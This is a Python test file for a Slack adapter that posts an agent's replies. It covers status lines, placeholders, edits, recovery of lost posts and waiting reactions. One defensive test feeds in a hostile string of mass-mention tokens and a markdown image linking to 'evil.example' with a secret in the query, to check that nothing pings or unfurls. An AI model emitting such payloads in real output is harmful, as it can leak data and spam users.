"""Replies on the real wire: status or placeholder, posts that can be found again, edits, notices, waiting marks."""

import asyncio
from typing import Any

import pytest

from adapters.slack import limits
from adapters.slack.ids import (
    hourglass_note,
    is_marked,
    marked_part,
    parse_delivery_key,
    part_metadata,
    status_refused_note,
)
from bridge.errors import MessageGone, PartTooLong, PlatformRejected, PlatformUnavailable
from bridge.extension import Services
from bridge.model import TurnId, View
from bridge.ports import Platform, Reply
from bridge.testing.fakes import envelope
from sandbox.clock import SandboxClock
from sandbox.journal import Journal
from sandbox.slack import SlackEmulator

TURN = TurnId("abcdefghijklmnop")
OTHER_TURN = TurnId("qrstuvwxyz234567")
HOURGLASS = "hourglass_flowing_sand"


@pytest.fixture
def replying(platform: Platform, asked: Any) -> Any:
    """Ask something and make the reply to it."""

    def make(**question: Any) -> tuple[Reply, str, str]:
        envelope = asked(**question)
        return (
            platform.reply(envelope, TURN, "en"),
            envelope.place.channel,
            envelope.place.thread or envelope.message_id,
        )

    return make


def calls(journal: Journal, method: str) -> list[dict[str, Any]]:
    """Return the arguments of every call of a method."""
    return [entry.detail["args"] for entry in journal.select(kind="request", name=method)]


# --- sign of life ---


async def test_a_status_is_the_sign_of_life(replying: Any, slack: SlackEmulator) -> None:
    """Accepted, so nothing is posted before the first words."""
    reply, channel, thread = replying()
    assert await reply.open() is None
    assert slack.status(channel, thread) == "is thinking…"
    assert not slack.answers(channel)


async def test_the_status_is_renewed_until_there_are_words(
    replying: Any, slack: SlackEmulator, sandbox_clock: SandboxClock, journal: Journal
) -> None:
    """Slack takes it away after two minutes, and the first post at once."""
    reply, channel, thread = replying()
    await reply.open()
    sandbox_clock.advance(100)
    await reply.refresh()
    sandbox_clock.advance(100)
    assert slack.status(channel, thread)
    await reply.post(0, View("Hello"))
    assert not slack.status(channel, thread)
    asked_for = len(calls(journal, "assistant.threads.setStatus"))
    await reply.refresh()
    await reply.settle()
    assert len(calls(journal, "assistant.threads.setStatus")) == asked_for


async def test_settling_clears_a_status_nothing_followed(replying: Any, slack: SlackEmulator) -> None:
    """And may be done twice."""
    reply, channel, thread = replying()
    await reply.open()
    await reply.settle()
    await reply.settle()
    assert not slack.status(channel, thread)


async def test_a_refused_status_becomes_a_placeholder_and_is_remembered(
    replying: Any, slack: SlackEmulator, journal: Journal, services: Services
) -> None:
    """The next reply in this team does not try again; the placeholder becomes the first part."""
    slack.switches.status_refusal = "not_agent_app"
    reply, channel, _ = replying()
    placeholder = await reply.open()
    assert placeholder is not None
    assert slack.shown_text(channel, placeholder) == "… thinking"
    assert await reply.find_posted(0) == placeholder
    await reply.edit(placeholder, View("Hello"))
    assert slack.shown_text(channel, placeholder) == "Hello"
    second, _, _ = replying()
    assert await second.open() is not None
    assert len(calls(journal, "assistant.threads.setStatus")) == 1
    assert not slack.violations()


async def test_a_refusal_is_believed_for_a_day(
    replying: Any, slack: SlackEmulator, journal: Journal, services: Services
) -> None:
    """Teams change their minds."""
    a_while_ago = services.clock.wall() - 25 * 3600
    await services.store.remember(status_refused_note("work", "T1"), f"{a_while_ago:.0f}")
    reply, _, _ = replying()
    assert await reply.open() is None
    assert len(calls(journal, "assistant.threads.setStatus")) == 1


@pytest.mark.parametrize("error", ["channel_not_found", "invalid_thread_ts", "internal_error"])
async def test_trouble_of_one_thread_is_not_held_against_the_team(
    replying: Any, slack: SlackEmulator, services: Services, error: str
) -> None:
    """A placeholder now, a status the next time."""
    slack.faults.plan("assistant.threads.setStatus", "error", error=error)
    reply, _, _ = replying()
    assert await reply.open() is not None
    assert await services.store.note(status_refused_note("work", "T1")) is None


async def test_status_lines_can_be_switched_off(
    slack: SlackEmulator, platform_for: Any, asked: Any, journal: Journal
) -> None:
    """Then a placeholder is posted, in the asker's language."""
    async with platform_for(status_lines=False) as platform:
        placeholder = await platform.reply(asked(), TURN, "zh").open()
    assert placeholder is not None
    assert slack.shown_text("C1", placeholder) != "… thinking"
    assert not calls(journal, "assistant.threads.setStatus")


async def test_the_top_of_a_direct_channel_has_no_status(slack: SlackEmulator, platform: Any, asked: Any) -> None:
    """Statuses belong to threads; the answer goes to the channel itself."""
    dm = slack.open_dm("ann")
    reply = platform.reply(asked(channel=dm, threaded=False), TURN, "en")
    placeholder = await reply.open()
    assert placeholder is not None
    assert slack.shown(dm, placeholder).thread_ts is None
    await reply.edit(placeholder, View("here"))
    assert await reply.find_posted(0) == placeholder


# --- posts and edits ---


async def test_an_answer_grows(replying: Any, slack: SlackEmulator, journal: Journal) -> None:
    """One post, then edits, in the thread, marked, without unfurling and without the word edited."""
    reply, channel, thread = replying()
    ts = await reply.post(0, View("**Hel", live=True))
    await reply.edit(ts, View("**Hello**\n\n- a\n- b"))
    shown = slack.shown(channel, ts)
    assert shown.text == "**Hello**\n\n- a\n- b"
    assert (shown.thread_ts, shown.edited) == (thread, False)
    assert shown.metadata == part_metadata(TURN, 0)
    assert shown.source_text == "**Hello** - a - b"
    posted = calls(journal, "chat.postMessage")[0]
    assert (posted["unfurl_links"], posted["unfurl_media"]) == (False, False)
    assert not slack.violations()


async def test_nobody_is_pinged_and_nothing_unfurled(replying: Any, slack: SlackEmulator) -> None:
    """Whatever an agent says, in posts, edits and footers."""
    slack.switches.updates_unfurl_links = True
    nasty = "<!channel> <@U2> <!subteam^S1|@ops> ![x](https://evil.example/?q=secret) https://evil.example `<!here>`"
    reply, _, _ = replying()
    ts = await reply.post(0, View(nasty, footer=nasty))
    await reply.edit(ts, View(nasty + nasty, footer=nasty))
    await reply.notice(nasty)
    assert not slack.violations()


async def test_a_footer_stands_apart(replying: Any, slack: SlackEmulator) -> None:
    """The answer's text is the agent's alone."""
    reply, channel, _ = replying()
    ts = await reply.post(0, View("part of it", footer="⚠️ cut <here>"))
    shown = slack.shown(channel, ts)
    assert (shown.text, shown.small_print) == ("part of it", "⚠️ cut <here>")


async def test_a_part_at_our_limit_fits(replying: Any, slack: SlackEmulator, platform: Platform) -> None:
    """In the strictest reading of Slack's limits, with a footer and with the most paragraphs."""
    slack.switches.expand_markdown_blocks = True
    reply, _, _ = replying()
    rules = platform.part_rules
    longest = "x" * rules.limit
    paragraphs = "\n\n".join(["words"] * limits.PART_PIECES)
    for text in (longest, paragraphs, "🎉" * (rules.limit // 2), "<!channel>" * 900):
        assert rules.measure(text) <= rules.limit
        ts = await reply.post(0, View(text, footer="the end"))
        await reply.edit(ts, View(text))
        await reply.remove(ts)
    assert not slack.violations("too_big")


async def test_a_message_slack_finds_too_long_is_told(replying: Any, slack: SlackEmulator) -> None:
    """The core then splits smaller."""
    slack.switches.markdown_total_chars = 5_000
    reply, _, _ = replying()
    with pytest.raises(PartTooLong):
        await reply.post(0, View("x" * 6_000))
    ts = await reply.post(0, View("x"))
    with pytest.raises(PartTooLong):
        await reply.edit(ts, View("x" * 6_000))


async def test_refused_blocks_are_shown_as_plain_text(replying: Any, slack: SlackEmulator, journal: Journal) -> None:
    """The same words, escaped; later edits of that message stay plain."""
    reply, channel, _ = replying()
    slack.faults.plan("chat.postMessage", "error", error="invalid_blocks")
    ts = await reply.post(0, View("a < b & <!channel>"))
    assert slack.shown_text(channel, ts) == "a < b & <!channel>"
    await reply.edit(ts, View("more", footer="end"))
    assert slack.shown_text(channel, ts) == "more\n\nend"
    assert len(calls(journal, "chat.update")) == 1
    assert not slack.violations("ping")


async def test_an_edit_with_refused_blocks_is_plain_too(replying: Any, slack: SlackEmulator) -> None:
    """A message can lose its blocks in the middle."""
    reply, channel, _ = replying()
    ts = await reply.post(0, View("one"))
    slack.faults.plan("chat.update", "error", error="invalid_blocks")
    await reply.edit(ts, View("two"))
    assert slack.shown_text(channel, ts) == "two"
    slack.faults.plan("chat.update", "error", error="invalid_blocks")
    other = await reply.post(1, View("three"))
    with pytest.raises(PartTooLong):
        await reply.edit(other, View("x" * 5_000))


async def test_a_deleted_message_is_gone(replying: Any, slack: SlackEmulator) -> None:
    """The core posts anew; removing what is gone is fine."""
    reply, _, _ = replying()
    ts = await reply.post(0, View("one"))
    await reply.remove(ts)
    await reply.remove(ts)
    with pytest.raises(MessageGone):
        await reply.edit(ts, View("two"))


@pytest.mark.parametrize("fault", ["drop_after", "plain_text", "wrong_json"])
async def test_a_post_whose_answer_was_lost_is_found(replying: Any, slack: SlackEmulator, fault: str) -> None:
    """By its mark, so that nobody reads it twice."""
    reply, channel, thread = replying()
    slack.faults.plan("chat.postMessage", fault)
    with pytest.raises(PlatformUnavailable) as caught:
        await reply.post(1, View("once"))
    assert caught.value.outcome_unknown
    found = await reply.find_posted(1)
    assert found is not None
    assert slack.shown_text(channel, found) == "once"
    assert await reply.find_posted(0) is None
    assert len(slack.answers(channel, thread)) == 1


async def test_a_post_that_never_arrived_is_not_found(replying: Any, slack: SlackEmulator) -> None:
    """Then it may be sent again."""
    reply, _, _ = replying()
    slack.faults.plan("chat.postMessage", "drop_before")
    with pytest.raises(PlatformUnavailable):
        await reply.post(0, View("once"))
    assert await reply.find_posted(0) is None


async def test_a_post_applied_after_it_was_repeated_is_told_as_a_double(
    platform_for: Any, asked: Any, slack: SlackEmulator, sandbox_clock: SandboxClock
) -> None:
    """The service took longer than our patience; the mark tells the late one from all else that stands there."""
    question = asked(thread_ts=slack.mention("ann", "C1", "root"))
    channel, thread = question.place.channel, question.place.thread
    async with platform_for(request_timeout_s=1.0) as impatient:
        reply = impatient.reply(question, TURN, "en")
        slack.faults.plan("chat.postMessage", "delay", delay_s=60.0)
        with pytest.raises(PlatformUnavailable) as caught:
            await reply.post(0, View("once"))
        assert caught.value.outcome_unknown
    async with platform_for() as platform:
        reply = platform.reply(question, TURN, "en")
        assert await reply.find_posted(0) is None
        known = {0: await reply.post(0, View("once")), 1: await reply.post(1, View("and more"))}
        await reply.notice("a sentence of ours")
        await platform.reply(question, OTHER_TURN, "en").post(0, View("another answer"))
        expected = [shown.ts for shown in slack.answers(channel, thread)]
        assert await reply.find_doubles({0, 1}, known) == []
        sandbox_clock.advance(60.0)
        await slack.wait_until(lambda: len(slack.answers(channel, thread)) > len(expected), what="the late post")
        (double,) = await reply.find_doubles({0, 1}, known)
        await reply.remove(double)
        assert [shown.ts for shown in slack.answers(channel, thread)] == expected


async def test_a_post_far_down_a_long_thread_is_found(platform: Platform, slack: SlackEmulator, asked: Any) -> None:
    """On a later page, among the messages of others."""
    slack.switches.rate_limits = "off"
    root = slack.mention("ann", "C1", "root")
    reply = platform.reply(asked(thread_ts=root), TURN, "en")
    for number in range(2 * limits.HISTORY_PAGE):
        slack.say("bob", "C1", f"chatter {number}", root)
    ts = await reply.post(0, View("deep"))
    assert await reply.find_posted(0) == ts


async def test_a_post_that_cannot_be_looked_up_is_told(replying: Any, slack: SlackEmulator, journal: Journal) -> None:
    """Without the history scope the core repeats it once, marked."""
    slack.add_app(scopes=["chat:write", "app_mentions:read"])
    reply, _, _ = replying()
    with pytest.raises(PlatformRejected, match="channels:history"):
        await reply.find_posted(0)


async def test_a_place_we_may_not_speak_in_is_told(replying: Any, slack: SlackEmulator) -> None:
    """With what is wrong, for the log."""
    reply, channel, _ = replying()
    slack.archive(channel)
    with pytest.raises(PlatformRejected, match="archived"):
        await reply.post(0, View("hi"))
    with pytest.raises(PlatformRejected):
        await reply.notice("hi")


async def test_a_dead_token_is_a_platform_error_here(replying: Any, slack: SlackEmulator) -> None:
    """What it means for the adapter is the receiving side's business."""
    reply, _, _ = replying()
    slack.installation.revoked = True
    with pytest.raises(PlatformRejected):
        await reply.post(0, View("hi"))


def test_budgets_are_shared_by_workspace_and_channel(platform: Platform) -> None:
    """Edits belong to the workspace, posts to the channel and to the workspace."""
    reply = platform.reply(envelope(channel="C9"), TURN, "en")
    assert [(b.name, b.limit, b.window_s) for b in reply.ways[-1].edit] == [("fake:T1:chat.update", 50, 60.0)]
    assert [b.name for b in reply.ways[-1].post] == ["fake:T1:C9:chat.postMessage", "fake:T1:chat.postMessage"]


# --- waiting ---


async def test_a_waiting_question_gets_an_hourglass_until_its_turn(
    replying: Any, slack: SlackEmulator, journal: Journal
) -> None:
    """Put once, by whichever reply object; taken away when the answer begins."""
    reply, channel, ts = replying()
    await reply.waiting(1)
    await reply.waiting(2)
    assert slack.shown(channel, ts).reactions == {HOURGLASS: ["U0BOT"]}
    await reply.open()
    assert slack.shown(channel, ts).reactions == {}
    await reply.settle()
    assert len(calls(journal, "reactions.add")) == len(calls(journal, "reactions.remove")) == 1


async def test_a_mark_that_comes_too_late_is_not_put(replying: Any, slack: SlackEmulator) -> None:
    """The turn has begun already: nothing waits any more."""
    reply, channel, ts = replying()
    await reply.open()
    await reply.waiting(1)
    assert slack.shown(channel, ts).reactions == {}


async def test_a_mark_on_its_way_is_taken_away_after_it_arrived(
    replying: Any, slack: SlackEmulator, journal: Journal
) -> None:
    """The turn begins while the reaction is still being put: it must not stay for ever."""
    slack.switches.latency_s = 0.2
    reply, channel, ts = replying()
    async with asyncio.TaskGroup() as group:
        group.create_task(reply.waiting(1))
        await slack.wait_until(lambda: bool(calls(journal, "reactions.add")), what="the reaction on its way")
        await reply.open()
    assert slack.shown(channel, ts).reactions == {}
    assert len(calls(journal, "reactions.remove")) == 1


async def test_a_mark_from_before_a_restart_is_taken_away(
    platform_for: Any, slack: SlackEmulator, asked: Any, services: Services
) -> None:
    """It was written down before it was put."""
    envelope = asked()
    async with platform_for() as before:
        await before.reply(envelope, TURN, "en").waiting(1)
    async with platform_for() as after:
        await after.reply(envelope, TURN, "en").settle()
    assert slack.shown("C1", envelope.message_id).reactions == {}
    assert await services.store.note(hourglass_note(parse_delivery_key(envelope.delivery_key))) is None


async def test_a_mark_that_could_not_be_taken_away_goes_later(replying: Any, slack: SlackEmulator) -> None:
    """Reactions may be removed twenty times a minute only."""
    reply, channel, ts = replying()
    await reply.waiting(1)
    slack.rate_limit_next("reactions.remove")
    await reply.settle()
    assert slack.shown(channel, ts).reactions
    another, _, _ = replying()
    await another.settle()
    assert slack.shown(channel, ts).reactions == {}


async def test_a_mark_that_is_there_already_is_fine(replying: Any, slack: SlackEmulator) -> None:
    """Put before a crash, for example."""
    reply, channel, ts = replying()
    slack.faults.plan("reactions.add", "error", error="already_reacted", applied=True)
    await reply.waiting(1)
    await reply.settle()
    assert slack.shown(channel, ts).reactions == {}


async def test_without_the_reaction_scope_a_sentence_says_that_it_waits(
    replying: Any, slack: SlackEmulator, journal: Journal
) -> None:
    """Once per question, and Slack is not asked again."""
    slack.add_app(scopes=["chat:write", "app_mentions:read", "channels:history"])
    reply, channel, thread = replying()
    await reply.waiting(2)
    await reply.waiting(2)
    other, _, _ = replying()
    await other.waiting(1)
    shown = [message.text for message in slack.answers(channel, thread)]
    assert shown == ["⏳ Your question waits: 2 before it."]
    assert len(calls(journal, "reactions.add")) == 1


async def test_a_notice_goes_where_the_answer_would(replying: Any, slack: SlackEmulator) -> None:
    """Marked as a notice, not as an answer."""
    reply, channel, thread = replying()
    ts = await reply.notice("• `!new`: start afresh")
    shown = slack.shown(channel, ts)
    assert (shown.thread_ts, shown.text) == (thread, "• `!new`: start afresh")
    assert is_marked({"metadata": shown.metadata})
    assert marked_part({"metadata": shown.metadata}) is None
